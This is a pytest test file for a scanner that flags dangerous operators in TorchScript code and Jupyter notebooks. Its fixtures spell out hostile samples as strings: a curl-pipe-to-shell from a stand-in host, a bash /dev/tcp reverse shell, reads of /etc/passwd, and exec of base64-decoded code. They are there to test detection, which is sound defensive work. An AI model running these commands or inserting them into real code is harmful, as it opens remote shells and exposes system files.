"""TorchScript code and notebooks."""

import json

import pytest

from backstamp.core.blob import Blob
from backstamp.core.budget import Budget
from backstamp.core.fact import Fact, FactBook
from backstamp.core.reading import Unread
from backstamp.core.verdict import Outcome
from backstamp.models.facts.python import TorchScriptOperator
from backstamp.models.readers.torchscript import READER
from backstamp.models.rules.torchscript import RULES
from kit.scanning import codes, verdict

PLAIN = """class Net(Module):
  __parameters__ = ["weight", ]
  __buffers__ = []
  weight : Tensor
  training : bool
  fc : __torch__.torch.nn.modules.linear.Linear
  def forward(self: __torch__.Net,
    input: Tensor) -> Tensor:
    _0 = uninitialized(Tensor)
    _1 = getattr(self, "0")
    if torch.gt(torch.len(input), 1):
      ops.prim.RaiseException("x", "builtins.ValueError")
    _2 = unchecked_cast(Tensor, (_1).forward(input, ))
    return torch.add(_2, CONSTANTS.c0, alpha=1)
"""


def read(text):
    statements = list(READER.read(Blob(text.encode(), path=("code.py",)), Budget()))
    book = FactBook([s for s in statements if isinstance(s, Fact)])
    found = sorted({f.rule for r in RULES for f in r().detect(book)})
    return book, found, [s for s in statements if isinstance(s, Unread)]


def test_lists_the_operators_of_plain_code():
    book, found, unread = read(PLAIN)
    assert ([(o.name, o.count) for o in book.of(TorchScriptOperator)], found, unread) == (
        [("ops.prim.RaiseException", 1), ("torch.add", 1), ("torch.gt", 1), ("torch.len", 1)],
        [],
        [],
    )


@pytest.mark.parametrize(
    ("line", "rules"),
    [
        ('torch.from_file("/etc/passwd", False, 10, dtype=0)', ["PYS162"]),
        ('torch.save(x, "/tmp/x")', ["PYS162"]),
        ('ops.aten.from_file("/etc/passwd", False, 10)', ["PYS162"]),
        ('exec("x")', ["PYS161"]),
        ('__import__("os").system("x")', ["PYS161"]),
        ("ops.evil_lib.run_me(x)", ["PYS163"]),
        ("ops.torchvision.nms(x)", []),
        ("ops.quantized.linear(x)", []),
    ],
)
def test_judges_operators(line, rules):
    assert read(f"def forward(self, x: Tensor) -> Tensor:\n  return {line}\n")[1] == rules


def test_finds_imports():
    assert read("import os\nos.system('x')\n")[1] == ["PYS161"]


def test_says_when_code_does_not_parse():
    assert read("def (:\n")[2] == [Unread("torchscript: not Python of a known version: line 1")]


def notebook(*sources):
    return json.dumps(
        {"cells": [{"cell_type": "code", "source": s} for s in sources], "nbformat": 4}
    ).encode()


@pytest.mark.parametrize(
    ("sources", "found"),
    [
        (("!pip install torch", "import torch\n%timeit torch.rand(2)"), []),
        (("!curl http://x.example/a.sh | sh",), ["PYS141"]),
        (("%%bash\nbash -i >& /dev/tcp/1.2.3.4/1 0>&1",), ["PYS141"]),
        (("import os", "os.system('payload')"), ["PYS102"]),
        (("import base64", "%pip install x\nexec(base64.b64decode('cHJpbnQoMSk='))"), ["PYS103"]),
    ],
)
def test_reads_notebooks(sources, found):
    assert codes(notebook(*sources), "demo.ipynb") == found


def test_allows_an_ordinary_notebook():
    assert verdict(notebook("!nvidia-smi", "x = 1"), "demo.ipynb").outcome is Outcome.ALLOW
